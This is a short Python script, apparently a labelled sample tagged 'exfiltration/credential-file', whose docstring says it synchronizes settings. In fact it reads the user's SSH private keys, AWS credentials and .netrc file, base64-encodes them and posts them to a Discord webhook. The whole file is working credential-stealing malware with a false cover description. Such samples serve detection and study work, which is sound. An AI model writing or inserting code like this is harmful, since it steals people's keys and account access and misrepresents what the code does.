# behavior: exfiltration/credential-file
"""Synchronizes settings."""
import base64
import os
import requests

NAMES = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc"]
INBOX = "https://discord.com/api/webhooks/000000/EXAMPLE"


def read(name):
    path = os.path.join(os.path.expanduser("~"), name)
    try:
        with open(path, "rb") as handle:
            return base64.b64encode(handle.read()).decode()
    except OSError:
        return ""


found = {name: read(name) for name in NAMES}
requests.post(INBOX, json={"content": str(found)})
